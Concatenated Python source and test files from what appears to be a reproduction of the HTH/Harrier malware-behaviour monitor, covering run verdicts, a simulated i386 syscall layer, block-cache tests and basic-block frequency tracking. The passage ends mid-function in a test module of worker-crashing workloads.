    """Classification of one monitored run by its strongest warning."""

    BENIGN = "benign"        # no warnings at all
    LOW = "low"
    MEDIUM = "medium"
    HIGH = "high"

    @classmethod
    def from_severity(cls, severity: Optional[Severity]) -> "Verdict":
        if severity is None:
            return cls.BENIGN
        return {
            Severity.LOW: cls.LOW,
            Severity.MEDIUM: cls.MEDIUM,
            Severity.HIGH: cls.HIGH,
        }[severity]

    @property
    def flagged(self) -> bool:
        return self is not Verdict.BENIGN


@dataclass
class RunReport:
    """Everything HTH observed about one program run."""

    program: str
    argv: List[str]
    result: RunResult
    warnings: List[SecurityWarning]
    events: List[SecurityEvent]
    console_output: str
    exit_code: Optional[int]
    killed_by_monitor: bool = False
    faults: List[Tuple[int, str]] = field(default_factory=list)
    #: Seed of the fault injector, when the run was chaos-perturbed.
    #: ``repro chaos --seed <this>`` replays the exact fault schedule.
    fault_seed: Optional[int] = None
    #: Faults the injector delivered (InjectedFault records, in order).
    injected_faults: List[object] = field(default_factory=list)
    #: Events discarded because the bounded Harrier log overflowed.
    events_dropped: int = 0
    #: Contained monitor-side failures (harrier.monitor.MonitorFault).
    #: Deliberately *not* part of ``warnings``: a monitor fault reports
    #: on the monitor, not the guest, so it must not move the verdict.
    monitor_faults: List[object] = field(default_factory=list)
    #: Secpert rules quarantined after raising during this run.
    quarantined_rules: List[str] = field(default_factory=list)

    @property
    def max_severity(self) -> Optional[Severity]:
        if not self.warnings:
            return None
        return max(w.severity for w in self.warnings)

    @property
    def verdict(self) -> Verdict:
        return Verdict.from_severity(self.max_severity)

    @property
    def flagged(self) -> bool:
        return bool(self.warnings)

    def warning_counts(self) -> Dict[str, int]:
        counts = {"LOW": 0, "MEDIUM": 0, "HIGH": 0}
        for warning in self.warnings:
            counts[warning.severity.label()] += 1
        return counts

    def warnings_by_rule(self, rule: str) -> List[SecurityWarning]:
        return [w for w in self.warnings if w.rule == rule]

    def render_warnings(self) -> str:
        return "\n\n".join(w.render() for w in self.warnings)

    @property
    def degraded(self) -> bool:
        """True when the monitor itself took damage during this run."""
        return bool(
            self.monitor_faults
            or self.quarantined_rules
            or self.events_dropped
        )

    def summary_line(self) -> str:
        counts = self.warning_counts()
        graded = " ".join(
            f"{label}={count}" for label, count in counts.items() if count
        )
        extras = []
        if self.fault_seed is not None:
            extras.append(
                f"chaos seed={self.fault_seed} "
                f"faults={len(self.injected_faults)}"
            )
        if self.degraded:
            extras.append("DEGRADED")
        return (
            f"{self.program}: verdict={self.verdict.value}"
            + (f" ({graded})" if graded else "")
            + (f" [{'; '.join(extras)}]" if extras else "")
        )
