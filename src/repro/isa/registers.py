"""Register file definition for the mini-ISA.

The register names deliberately echo x86 (the paper's Harrier monitors IA-32
through PIN) so that the policy discussion in the paper — "the data sources
of %esp will be assigned to be those of %ebp as well" — maps one-to-one onto
this reproduction.
"""

from __future__ import annotations

from typing import Dict, Tuple

#: General-purpose registers, in syscall-argument order: a syscall takes its
#: number in ``eax`` and arguments in ``ebx, ecx, edx, esi, edi`` (the Linux
#: i386 convention the paper's workloads use).
GP_REGISTERS: Tuple[str, ...] = (
    "eax",
    "ebx",
    "ecx",
    "edx",
    "esi",
    "edi",
    "ebp",
    "esp",
)

#: Registers written by the CPUID instruction (paper section 7.3.1).
CPUID_REGISTERS: Tuple[str, ...] = ("eax", "ebx", "ecx", "edx")

#: Registers carrying syscall arguments, in order.
SYSCALL_ARG_REGISTERS: Tuple[str, ...] = ("ebx", "ecx", "edx", "esi", "edi")

_REGISTER_SET = frozenset(GP_REGISTERS)


def is_register(name: str) -> bool:
    return name in _REGISTER_SET


def check_register(name: str) -> str:
    if name not in _REGISTER_SET:
        raise ValueError(f"unknown register {name!r}")
    return name


class RegisterFile:
    """Mutable register state for one CPU context."""

    __slots__ = ("_values",)

    def __init__(self) -> None:
        self._values: Dict[str, int] = {reg: 0 for reg in GP_REGISTERS}

    def get(self, reg: str) -> int:
        try:
            return self._values[reg]
        except KeyError:
            raise ValueError(f"unknown register {reg!r}") from None

    def set(self, reg: str, value: int) -> None:
        if reg not in self._values:
            raise ValueError(f"unknown register {reg!r}")
        self._values[reg] = int(value)

    def copy(self) -> "RegisterFile":
        dup = RegisterFile()
        dup._values = dict(self._values)
        return dup

    def snapshot(self) -> Dict[str, int]:
        return dict(self._values)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        inner = ", ".join(f"{r}={v:#x}" for r, v in self._values.items())
        return f"RegisterFile({inner})"
