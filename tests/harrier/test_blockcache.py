"""BlockCache behavior: hit/miss accounting, telemetry counters, capacity
flush, and the kernel's cache lifecycle (spawn/fork/execve)."""

from repro.harrier.blockcache import BlockCache
from repro.isa import (
    FlatMemory,
    Imm,
    Instruction,
    Opcode,
    Reg,
    assemble,
)
from repro.isa.memory import MemoryFault
from repro.kernel import Kernel
from repro.programs.libc import libc_image
from repro.telemetry import Telemetry

import pytest


def make_memory(instructions, base=0):
    mem = FlatMemory()
    mem.map_code(base, instructions)
    return mem


PROG = [
    Instruction(Opcode.MOV, Reg("eax"), Imm(1)),
    Instruction(Opcode.JMP, Imm(0)),
]


class TestCacheAccounting:
    def test_miss_then_hit(self):
        cache = BlockCache()
        mem = make_memory(PROG)
        p1 = cache.lookup(mem, 0)
        p2 = cache.lookup(mem, 0)
        assert p1 is p2
        assert cache.misses == 1
        assert cache.hits == 1
        assert cache.translated_instructions == p1.length
        assert len(cache) == 1
        assert cache.hit_rate() == 0.5

    def test_hit_rate_none_before_any_lookup(self):
        assert BlockCache().hit_rate() is None

    def test_unmapped_lookup_raises_and_caches_nothing(self):
        cache = BlockCache()
        mem = make_memory(PROG)
        with pytest.raises(MemoryFault, match="execute of unmapped"):
            cache.lookup(mem, 0x777)
        assert len(cache) == 0

    def test_capacity_flush(self):
        cache = BlockCache(max_blocks=2)
        mem = make_memory([Instruction(Opcode.NOP)] * 6,)
        # leaders force single-instruction blocks so each pc is a key
        cache.leaders = frozenset(range(7))
        for pc in range(3):
            cache.lookup(mem, pc)
        assert cache.flushes == 1
        assert len(cache) == 1  # flushed at the third insert

    def test_metrics_counters(self):
        telemetry = Telemetry.enabled()
        cache = BlockCache(metrics=telemetry.metrics)
        mem = make_memory(PROG)
        cache.lookup(mem, 0)
        cache.lookup(mem, 0)
        registry = telemetry.metrics
        assert registry.total("blockcache_hits_total") == 1
        assert registry.total("blockcache_misses_total") == 1
        assert registry.total(
            "blockcache_translated_instructions_total"
        ) == 2


def make_kernel(**kwargs):
    return Kernel(libraries=[libc_image()], **kwargs)


FORK_SRC = r"""
main:
    call fork
    mov eax, 0
    ret
"""

EXEC_SRC = r"""
main:
    mov ebx, tgt
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
tgt: .asciz "/bin/ls"
"""


class TestKernelLifecycle:
    def test_spawn_assigns_shared_cache_per_image(self):
        k = make_kernel()
        image = assemble("/bin/p", "main:\n  mov eax, 0\n  ret")
        k.register_binary(image)
        a = k.spawn("/bin/p")
        b = k.spawn("/bin/p")
        assert a.block_cache is not None
        assert a.block_cache is b.block_cache

    def test_use_block_cache_false_leaves_none(self):
        k = make_kernel(use_block_cache=False)
        proc = k.spawn(assemble("/bin/p", "main:\n  mov eax, 0\n  ret"))
        assert proc.block_cache is None
        result = k.run()
        assert result.completed
        assert proc.exit_code == 0

    def test_fork_shares_parent_cache(self):
        k = make_kernel()
        parent = k.spawn(assemble("/bin/p", FORK_SRC))
        k.run()
        procs = list(k.procs.values())
        assert len(procs) == 2
        assert procs[0].block_cache is procs[1].block_cache

    def test_execve_swaps_cache_and_counts_flush(self):
        k = make_kernel()
        k.register_binary(
            assemble("/bin/ls", "main:\n  mov eax, 0\n  ret")
        )
        proc = k.spawn(assemble("/bin/p", EXEC_SRC))
        before = proc.block_cache
        assert k.block_cache_flushes == 0
        result = k.run()
        assert result.completed
        assert proc.exit_code == 0
        assert k.block_cache_flushes == 1
        assert proc.block_cache is not before

    def test_execve_flush_metric(self):
        telemetry = Telemetry.enabled()
        k = Kernel(libraries=[libc_image()], telemetry=telemetry)
        k.register_binary(
            assemble("/bin/ls", "main:\n  mov eax, 0\n  ret")
        )
        k.spawn(assemble("/bin/p", EXEC_SRC))
        k.run()
        assert telemetry.metrics.total("blockcache_flushes_total") == 1

    def test_stats_aggregate(self):
        k = make_kernel()
        proc = k.spawn(assemble("/bin/p", "main:\n  mov eax, 0\n  ret"))
        k.run()
        stats = k.block_cache_stats()
        assert stats["misses"] > 0
        assert stats["translated_instructions"] > 0
        assert proc.exit_code == 0

    def test_cached_run_matches_interp_run(self):
        # same guest, both engines: identical exit, console, clock
        src = r"""
main:
    mov edi, 0
loop:
    cmp edi, 5
    jge done
    mov ebx, edi
    call print_num
    add edi, 1
    jmp loop
done:
    mov eax, 0
    ret
"""
        results = {}
        for use_cache in (True, False):
            k = make_kernel(use_block_cache=use_cache)
            proc = k.spawn(assemble("/bin/p", src))
            result = k.run()
            results[use_cache] = (
                proc.exit_code,
                result.instructions,
                result.ticks,
                k.console.output_text(),
            )
        assert results[True] == results[False]
