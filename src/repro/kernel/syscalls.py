"""System call numbers, decoding, and handlers.

Numbers follow the Linux i386 table the paper's Harrier hooks (execve=11,
clone=120, socketcall=102, ...) plus one synthetic call, ``SYS_resolve``
(400), which backs the guest libc's ``gethostbyname``.  The resolver reads
the simulated DNS, so the *returned address* does not carry the taint of
the *queried name* — exactly the semantic gap of paper section 7.2 that
Harrier's routine-level short circuit exists to bridge.

Each handler returns ``(result, info)``; ``info`` is merged into the
event-description dict handed to the monitor hooks.  Handlers raise
:class:`WouldBlock` when they must wait (socket reads, accept, FIFO reads)
and are idempotent until they complete.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple, TYPE_CHECKING

from repro.kernel import errors
from repro.kernel.errors import WouldBlock
from repro.kernel.filesystem import (
    NodeKind,
    O_CREAT,
    O_RDWR,
    O_TRUNC,
    O_WRONLY,
)
from repro.kernel.network import AF_INET
from repro.kernel.process import (
    OpenFile,
    Process,
    ProcessState,
    ResourceKind,
    ResourceRef,
    SocketState,
)

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.kernel.kernel import Kernel

# -- syscall numbers (Linux i386 + one synthetic) ---------------------------
SYS_EXIT = 1
SYS_FORK = 2
SYS_READ = 3
SYS_WRITE = 4
SYS_OPEN = 5
SYS_CLOSE = 6
SYS_CREAT = 8
SYS_UNLINK = 10
SYS_LSEEK = 19
SYS_EXECVE = 11
SYS_TIME = 13
SYS_MKNOD = 14
SYS_CHMOD = 15
SYS_GETPID = 20
SYS_DUP = 41
SYS_BRK = 45
SYS_SOCKETCALL = 102
SYS_CLONE = 120
SYS_NANOSLEEP = 162
#: Synthetic: DNS/hosts resolution behind the libc gethostbyname routine.
SYS_RESOLVE = 400

SYSCALL_NAMES: Dict[int, str] = {
    SYS_EXIT: "SYS_exit",
    SYS_FORK: "SYS_fork",
    SYS_READ: "SYS_read",
    SYS_WRITE: "SYS_write",
    SYS_OPEN: "SYS_open",
    SYS_CLOSE: "SYS_close",
    SYS_CREAT: "SYS_creat",
    SYS_UNLINK: "SYS_unlink",
    SYS_LSEEK: "SYS_lseek",
    SYS_EXECVE: "SYS_execve",
    SYS_TIME: "SYS_time",
    SYS_MKNOD: "SYS_mknod",
    SYS_CHMOD: "SYS_chmod",
    SYS_GETPID: "SYS_getpid",
    SYS_DUP: "SYS_dup",
    SYS_BRK: "SYS_brk",
    SYS_SOCKETCALL: "SYS_socketcall",
    SYS_CLONE: "SYS_clone",
    SYS_NANOSLEEP: "SYS_nanosleep",
    SYS_RESOLVE: "SYS_resolve",
}

# socketcall(2) sub-call numbers.
SC_SOCKET = 1
SC_BIND = 2
SC_CONNECT = 3
SC_LISTEN = 4
SC_ACCEPT = 5
SC_SEND = 9
SC_RECV = 10

SOCKETCALL_NAMES: Dict[int, str] = {
    SC_SOCKET: "socket",
    SC_BIND: "bind",
    SC_CONNECT: "connect",
    SC_LISTEN: "listen",
    SC_ACCEPT: "accept",
    SC_SEND: "send",
    SC_RECV: "recv",
}

#: Sentinel result meaning "do not write eax" (exit / successful execve).
NO_RESULT = None

S_IFIFO = 0o010000

Args = Tuple[int, int, int, int, int]


def syscall_name(sysno: int) -> str:
    return SYSCALL_NAMES.get(sysno, f"SYS_{sysno}")


class SyscallTable:
    """Decodes and executes system calls against a kernel."""

    def __init__(self, kernel: "Kernel") -> None:
        self.kernel = kernel
        self._handlers = {
            SYS_EXIT: self._sys_exit,
            SYS_FORK: self._sys_fork,
            SYS_CLONE: self._sys_fork,
            SYS_READ: self._sys_read,
            SYS_WRITE: self._sys_write,
            SYS_OPEN: self._sys_open,
            SYS_CREAT: self._sys_creat,
            SYS_CLOSE: self._sys_close,
            SYS_LSEEK: self._sys_lseek,
            SYS_UNLINK: self._sys_unlink,
            SYS_EXECVE: self._sys_execve,
            SYS_TIME: self._sys_time,
            SYS_MKNOD: self._sys_mknod,
            SYS_CHMOD: self._sys_chmod,
            SYS_GETPID: self._sys_getpid,
            SYS_DUP: self._sys_dup,
            SYS_BRK: self._sys_brk,
            SYS_SOCKETCALL: self._sys_socketcall,
            SYS_NANOSLEEP: self._sys_nanosleep,
            SYS_RESOLVE: self._sys_resolve,
        }

    # -- decode (no side effects; feeds the monitor's pre-event) -----------
    def describe(self, proc: Process, sysno: int, args: Args) -> Dict[str, object]:
        info: Dict[str, object] = {"name": syscall_name(sysno)}
        mem = proc.memory
        try:
            if sysno in (SYS_OPEN, SYS_CREAT, SYS_EXECVE, SYS_MKNOD,
                         SYS_CHMOD, SYS_UNLINK):
                info["path_ptr"] = args[0]
                info["path"] = mem.read_cstring(args[0])
            if sysno == SYS_EXECVE:
                info["argv"] = self._read_ptr_array_strings(proc, args[1])
            if sysno in (SYS_READ, SYS_WRITE):
                info["fd"] = args[0]
                info["buf"] = args[1]
                info["count"] = args[2]
                open_file = proc.get_fd(args[0])
                if open_file is not None:
                    info["resource"] = open_file.resource()
                    info["open_file"] = open_file
            if sysno == SYS_RESOLVE:
                info["name_ptr"] = args[0]
                info["hostname"] = mem.read_cstring(args[0])
            if sysno == SYS_SOCKETCALL:
                info.update(self._describe_socketcall(proc, args))
        except Exception as exc:  # bad pointers etc.
            info["decode_error"] = str(exc)
        return info

    def _describe_socketcall(self, proc: Process, args: Args) -> Dict[str, object]:
        call, argp = args[0], args[1]
        mem = proc.memory
        sub_args = [mem.read(argp + i) for i in range(4)]
        info: Dict[str, object] = {
            "socketcall": SOCKETCALL_NAMES.get(call, f"sub{call}"),
            "sub_args": tuple(sub_args),
        }
        if call in (SC_BIND, SC_CONNECT):
            fd, sockaddr_ptr = sub_args[0], sub_args[1]
            family = mem.read(sockaddr_ptr)
            port = mem.read(sockaddr_ptr + 1)
            ip = mem.read(sockaddr_ptr + 2)
            info.update(
                fd=fd,
                sockaddr_ptr=sockaddr_ptr,
                family=family,
                port=port,
                ip=ip,
                addr_str=self.kernel.network.format_addr(ip, port),
            )
        elif call in (SC_SEND, SC_RECV):
            fd, buf, count = sub_args[0], sub_args[1], sub_args[2]
            info.update(fd=fd, buf=buf, count=count)
            open_file = proc.get_fd(fd)
            if open_file is not None:
                info["resource"] = open_file.resource()
                info["open_file"] = open_file
        elif call in (SC_LISTEN, SC_ACCEPT):
            info["fd"] = sub_args[0]
            open_file = proc.get_fd(sub_args[0])
            if open_file is not None:
                info["resource"] = open_file.resource()
        return info

    def _read_ptr_array_strings(self, proc: Process, array_ptr: int) -> List[str]:
        out: List[str] = []
        if array_ptr == 0:
            return out
        mem = proc.memory
        for i in range(64):
            ptr = mem.read(array_ptr + i)
            if ptr == 0:
                break
            out.append(mem.read_cstring(ptr))
        return out

    # -- dispatch -----------------------------------------------------------
    def dispatch(
        self, proc: Process, sysno: int, args: Args
    ) -> Tuple[Optional[int], Dict[str, object]]:
        handler = self._handlers.get(sysno)
        if handler is None:
            return -errors.ENOSYS, {}
        return handler(proc, args)

    # -- process lifecycle -----------------------------------------------------
    def _sys_exit(self, proc: Process, args: Args):
        self.kernel.exit_process(proc, args[0])
        return NO_RESULT, {"status": args[0]}

    def _sys_fork(self, proc: Process, args: Args):
        child = self.kernel.fork_process(proc)
        return child.pid, {"child_pid": child.pid}

    def _sys_execve(self, proc: Process, args: Args):
        mem = proc.memory
        try:
            path = mem.read_cstring(args[0])
        except Exception:
            return -errors.EFAULT, {}
        argv = self._read_ptr_array_strings(proc, args[1])
        env_entries = self._read_ptr_array_strings(proc, args[2])
        env: Dict[str, str] = {}
        for entry in env_entries:
            key, _, value = entry.partition("=")
            env[key] = value
        if not argv:
            argv = [path]
        result = self.kernel.exec_process(proc, path, argv, env)
        if result == 0:
            return NO_RESULT, {"path": path, "exec_argv": argv, "success": True}
        return result, {"path": path, "exec_argv": argv, "success": False}

    def _sys_getpid(self, proc: Process, args: Args):
        return proc.pid, {}

    def _sys_time(self, proc: Process, args: Args):
        return self.kernel.now, {}

    def _sys_nanosleep(self, proc: Process, args: Args):
        ticks = max(args[0], 0)
        proc.state = ProcessState.SLEEPING
        proc.wake_time = self.kernel.now + ticks
        return 0, {"ticks": ticks}

    def _sys_brk(self, proc: Process, args: Args):
        if args[0] != 0:
            proc.brk = args[0]
        return proc.brk, {}

    # -- filesystem ---------------------------------------------------------
    def _sys_open(self, proc: Process, args: Args):
        return self._do_open(proc, args[0], args[1])

    def _sys_creat(self, proc: Process, args: Args):
        return self._do_open(proc, args[0], O_WRONLY | O_CREAT | O_TRUNC)

    def _do_open(self, proc: Process, path_ptr: int, flags: int):
        try:
            path = proc.memory.read_cstring(path_ptr)
        except Exception:
            return -errors.EFAULT, {}
        environ = self._proc_environ_for(path)
        node, err = self.kernel.fs.resolve_open(path, flags, environ)
        if node is None:
            return err, {"path": path, "path_ptr": path_ptr}
        if node.kind is NodeKind.DIRECTORY:
            # Synthesize a listing snapshot so reads see directory contents.
            from repro.kernel.filesystem import Node

            listing = self.kernel.fs.listing(path)
            node = Node(NodeKind.FILE, data=listing.encode())
            kind = ResourceKind.DIRECTORY
        elif node.kind is NodeKind.FIFO:
            kind = ResourceKind.FIFO
        else:
            kind = ResourceKind.FILE
        open_file = OpenFile(kind, path, node=node, flags=flags)
        if kind is ResourceKind.FIFO:
            if open_file.readable():
                node.fifo_readers += 1
            if open_file.writable():
                node.fifo_writers += 1
        if open_file.appending() and node.kind is NodeKind.FILE:
            open_file.pos = len(node.data)
        fd = proc.install_fd(open_file)
        return fd, {
            "path": path,
            "path_ptr": path_ptr,
            "flags": flags,
            "fd": fd,
            "resource": open_file.resource(),
            "open_file": open_file,
        }

    def _proc_environ_for(self, path: str) -> Optional[str]:
        if not (path.startswith("/proc/") and path.endswith("/environ")):
            return None
        middle = path[len("/proc/"):-len("/environ")]
        if middle == "self":
            return None  # caller resolves pid; keep simple: unsupported
        try:
            pid = int(middle)
        except ValueError:
            return None
        target = self.kernel.procs.get(pid)
        if target is None:
            return None
        return target.environ_text()

    def _sys_close(self, proc: Process, args: Args):
        open_file = proc.remove_fd(args[0])
        if open_file is None:
            return -errors.EBADF, {}
        self.kernel.release_open_file(open_file)
        return 0, {"fd": args[0], "resource": open_file.resource()}

    def _sys_lseek(self, proc: Process, args: Args):
        fd, offset, whence = args[0], args[1], args[2]
        open_file = proc.get_fd(fd)
        if open_file is None:
            return -errors.EBADF, {}
        if open_file.kind not in (ResourceKind.FILE, ResourceKind.DIRECTORY):
            return -errors.EINVAL, {}
        size = len(open_file.node.data)
        if whence == 0:        # SEEK_SET
            new_pos = offset
        elif whence == 1:      # SEEK_CUR
            new_pos = open_file.pos + offset
        elif whence == 2:      # SEEK_END
            new_pos = size + offset
        else:
            return -errors.EINVAL, {}
        if new_pos < 0:
            return -errors.EINVAL, {}
        open_file.pos = new_pos
        return new_pos, {"fd": fd, "pos": new_pos}

    def _sys_unlink(self, proc: Process, args: Args):
        try:
            path = proc.memory.read_cstring(args[0])
        except Exception:
            return -errors.EFAULT, {}
        return self.kernel.fs.unlink(path), {"path": path, "path_ptr": args[0]}

    def _sys_mknod(self, proc: Process, args: Args):
        try:
            path = proc.memory.read_cstring(args[0])
        except Exception:
            return -errors.EFAULT, {}
        mode = args[1]
        if mode & S_IFIFO:
            result = self.kernel.fs.mkfifo(path, mode & 0o777)
        else:
            self.kernel.fs.create_file(path, mode=mode & 0o777)
            result = 0
        return result, {"path": path, "path_ptr": args[0], "mode": mode}

    def _sys_chmod(self, proc: Process, args: Args):
        try:
            path = proc.memory.read_cstring(args[0])
        except Exception:
            return -errors.EFAULT, {}
        return self.kernel.fs.chmod(path, args[1]), {
            "path": path,
            "path_ptr": args[0],
            "mode": args[1],
        }

    def _sys_dup(self, proc: Process, args: Args):
        new_fd = proc.dup_fd(args[0])
        if new_fd is None:
            return -errors.EBADF, {}
        return new_fd, {"fd": args[0], "new_fd": new_fd,
                        "resource": proc.fds[new_fd].resource()}

    # -- I/O ------------------------------------------------------------------
    def _sys_read(self, proc: Process, args: Args):
        return self._do_read(proc, args[0], args[1], args[2])

    def _sys_write(self, proc: Process, args: Args):
        return self._do_write(proc, args[0], args[1], args[2])

    def _do_read(self, proc: Process, fd: int, buf: int, count: int):
        open_file = proc.get_fd(fd)
        if open_file is None:
            return -errors.EBADF, {}
        if not open_file.readable():
            return -errors.EBADF, {}
        count = max(count, 0)
        kind = open_file.kind
        if kind is ResourceKind.CONSOLE:
            data = self.kernel.console.read_line(count)
        elif kind in (ResourceKind.FILE, ResourceKind.DIRECTORY):
            node = open_file.node
            data = bytes(node.data[open_file.pos:open_file.pos + count])
            open_file.pos += len(data)
        elif kind is ResourceKind.FIFO:
            node = open_file.node
            if not node.fifo_buffer:
                if node.fifo_writers > 0:
                    raise WouldBlock(f"fifo {open_file.name} empty")
                data = b""
            else:
                data = bytes(node.fifo_buffer[:count])
                del node.fifo_buffer[:count]
        elif kind is ResourceKind.SOCKET:
            conn = open_file.connection
            if conn is None:
                return -errors.ENOTSOCK, {}
            if not conn.incoming:
                if conn.open:
                    raise WouldBlock(f"socket {open_file.name} has no data")
                data = b""
            else:
                data = bytes(conn.incoming[:count])
                del conn.incoming[:count]
        else:  # pragma: no cover - exhaustive
            return -errors.EINVAL, {}
        proc.memory.write_bytes(buf, data)
        return len(data), {
            "fd": fd,
            "buf": buf,
            "count": count,
            "nread": len(data),
            "data": data,
            "resource": open_file.resource(),
            "open_file": open_file,
        }

    def _do_write(self, proc: Process, fd: int, buf: int, count: int):
        open_file = proc.get_fd(fd)
        if open_file is None:
            return -errors.EBADF, {}
        if not open_file.writable():
            return -errors.EBADF, {}
        count = max(count, 0)
        data = proc.memory.read_bytes(buf, count)
        kind = open_file.kind
        info: Dict[str, object] = {
            "fd": fd,
            "buf": buf,
            "count": count,
            "data": data,
            "resource": open_file.resource(),
            "open_file": open_file,
        }
        if kind is ResourceKind.CONSOLE:
            self.kernel.console.write(proc.pid, data)
        elif kind is ResourceKind.FILE:
            node = open_file.node
            if open_file.appending():
                open_file.pos = len(node.data)
            end = open_file.pos + len(data)
            if end > len(node.data):
                node.data.extend(b"\0" * (end - len(node.data)))
            node.data[open_file.pos:end] = data
            open_file.pos = end
        elif kind is ResourceKind.FIFO:
            open_file.node.fifo_buffer.extend(data)
        elif kind is ResourceKind.SOCKET:
            conn = open_file.connection
            if conn is None or open_file.socket_state is not SocketState.CONNECTED:
                return -errors.ENOTSOCK, {}
            if not conn.open:
                return -errors.EPIPE, {}
            conn.send(data)
            if conn.accepted_via is not None:
                info["server_socket"] = conn.accepted_via
        else:
            return -errors.EINVAL, {}
        info["nwritten"] = len(data)
        return len(data), info

    # -- sockets ----------------------------------------------------------------
    def _sys_socketcall(self, proc: Process, args: Args):
        call, argp = args[0], args[1]
        mem = proc.memory
        sub = [mem.read(argp + i) for i in range(4)]
        name = SOCKETCALL_NAMES.get(call)
        base_info = {"socketcall": name or f"sub{call}"}
        if call == SC_SOCKET:
            result, info = self._sc_socket(proc, sub)
        elif call == SC_BIND:
            result, info = self._sc_bind(proc, sub)
        elif call == SC_CONNECT:
            result, info = self._sc_connect(proc, sub)
        elif call == SC_LISTEN:
            result, info = self._sc_listen(proc, sub)
        elif call == SC_ACCEPT:
            result, info = self._sc_accept(proc, sub)
        elif call == SC_SEND:
            result, info = self._do_write(proc, sub[0], sub[1], sub[2])
        elif call == SC_RECV:
            result, info = self._do_read(proc, sub[0], sub[1], sub[2])
        else:
            return -errors.EINVAL, base_info
        info = {**base_info, **info}
        return result, info

    def _sc_socket(self, proc: Process, sub: List[int]):
        domain = sub[0]
        if domain != AF_INET:
            return -errors.EINVAL, {}
        open_file = OpenFile(
            ResourceKind.SOCKET, "socket:unbound", flags=O_RDWR
        )
        fd = proc.install_fd(open_file)
        return fd, {"fd": fd, "resource": open_file.resource()}

    def _read_sockaddr(self, proc: Process, ptr: int) -> Tuple[int, int, int]:
        mem = proc.memory
        return mem.read(ptr), mem.read(ptr + 1), mem.read(ptr + 2)

    def _sc_bind(self, proc: Process, sub: List[int]):
        fd, sockaddr_ptr = sub[0], sub[1]
        open_file = proc.get_fd(fd)
        if open_file is None or open_file.kind is not ResourceKind.SOCKET:
            return -errors.ENOTSOCK, {}
        family, port, ip = self._read_sockaddr(proc, sockaddr_ptr)
        open_file.bound_addr = (ip, port)
        open_file.socket_state = SocketState.BOUND
        addr_str = self.kernel.network.format_addr(ip, port)
        open_file.name = addr_str
        return 0, {
            "fd": fd,
            "sockaddr_ptr": sockaddr_ptr,
            "port": port,
            "ip": ip,
            "addr_str": addr_str,
            "resource": open_file.resource(),
            "open_file": open_file,
        }

    def _sc_connect(self, proc: Process, sub: List[int]):
        fd, sockaddr_ptr = sub[0], sub[1]
        open_file = proc.get_fd(fd)
        if open_file is None or open_file.kind is not ResourceKind.SOCKET:
            return -errors.ENOTSOCK, {}
        family, port, ip = self._read_sockaddr(proc, sockaddr_ptr)
        addr_str = self.kernel.network.format_addr(ip, port)
        conn = self.kernel.network.connect(
            ip, port, local_label=f"pid{proc.pid}"
        )
        if conn is None:
            return -errors.ECONNREFUSED, {
                "sockaddr_ptr": sockaddr_ptr,
                "addr_str": addr_str,
                "port": port,
                "ip": ip,
            }
        open_file.connection = conn
        open_file.socket_state = SocketState.CONNECTED
        open_file.name = addr_str
        return 0, {
            "fd": fd,
            "sockaddr_ptr": sockaddr_ptr,
            "port": port,
            "ip": ip,
            "addr_str": addr_str,
            "resource": open_file.resource(),
            "open_file": open_file,
        }

    def _sc_listen(self, proc: Process, sub: List[int]):
        fd = sub[0]
        open_file = proc.get_fd(fd)
        if open_file is None or open_file.kind is not ResourceKind.SOCKET:
            return -errors.ENOTSOCK, {}
        if open_file.bound_addr is None:
            return -errors.EINVAL, {}
        ip, port = open_file.bound_addr
        open_file.listener = self.kernel.network.listen(ip, port)
        open_file.socket_state = SocketState.LISTENING
        return 0, {
            "fd": fd,
            "addr_str": open_file.name,
            "resource": open_file.resource(),
            "open_file": open_file,
        }

    def _sc_accept(self, proc: Process, sub: List[int]):
        fd = sub[0]
        open_file = proc.get_fd(fd)
        if open_file is None or open_file.listener is None:
            return -errors.EINVAL, {}
        listener = open_file.listener
        if not listener.backlog:
            raise WouldBlock(f"accept on {open_file.name}")
        conn = listener.backlog.pop(0)
        conn.accepted_via = open_file.name
        new_open = OpenFile(ResourceKind.SOCKET, conn.peer_label, flags=O_RDWR)
        new_open.connection = conn
        new_open.socket_state = SocketState.CONNECTED
        new_fd = proc.install_fd(new_open)
        return new_fd, {
            "fd": fd,
            "new_fd": new_fd,
            "peer": conn.peer_label,
            "listener_addr": open_file.name,
            "listener_open": open_file,
            "resource": new_open.resource(),
            "open_file": new_open,
        }

    # -- name resolution ------------------------------------------------------
    def _sys_resolve(self, proc: Process, args: Args):
        try:
            hostname = proc.memory.read_cstring(args[0])
        except Exception:
            return -errors.EFAULT, {}
        ip = self.kernel.network.resolve(hostname)
        if ip is None:
            return -errors.EHOSTUNREACH, {"hostname": hostname}
        return ip, {"hostname": hostname, "name_ptr": args[0], "ip": ip}
