"""Basic-block frequency tracking (paper section 7.4).

Only *application* basic blocks are counted: when execution is inside a
trusted shared object (the execve wrapper in libc, say), the event is
attributed to the "last" application basic block executed before entering
the library — this is how a rarely-exercised malicious function in the
application is distinguished even though every syscall funnels through
libc (Figure 3).
"""

from __future__ import annotations

from typing import Tuple

from repro.harrier.state import ProcessShadow


class CodeExecutionPatterns:
    """Per-step leader bookkeeping over a :class:`ProcessShadow`."""

    def observe(self, shadow: ProcessShadow, pc: int) -> None:
        if pc in shadow.app_leaders:
            shadow.bb_counts[pc] = shadow.bb_counts.get(pc, 0) + 1
            shadow.last_app_bb = pc

    def event_context(self, shadow: ProcessShadow) -> Tuple[int, str]:
        """(frequency, address) attached to an outgoing event.

        Frequency is the execution count of the last application basic
        block; before any app block has run (loader shim territory) it
        defaults to 1.
        """
        bb = shadow.last_app_bb
        if bb is None:
            return 1, "0"
        return shadow.bb_counts.get(bb, 1), format(bb, "x")
