"""Hostile test workloads: rows that kill or stall their worker.

A normal registry row misbehaves at the *guest* level; these rows
misbehave at the *process* level — ``os._exit`` mid-task (the shape of
a segfault or an OOM kill, unreachable for ``except``) and slow setup
stalls (to hold a worker busy while a drain or a chaos monkey acts).
They live in the test tree, not the package: referencing them through
:class:`~repro.fleet.refs.WorkloadRef` (module ``tests.fleet.crashers``)
also proves refs resolve outside ``repro.programs``.
"""

import os
import time

from repro.programs.base import Workload

_BENIGN_SRC = """
main:
    mov eax, 0
    ret
"""

#: Exit code the crasher dies with (shows up in synthesized records).
CRASH_EXIT_CODE = 23

#: Wall seconds each sleepy row stalls before its (instant) guest run.
SLEEP_SECONDS = 0.3


def _die(hth) -> None:
    # Give the mp.Queue feeder thread a beat to flush records already
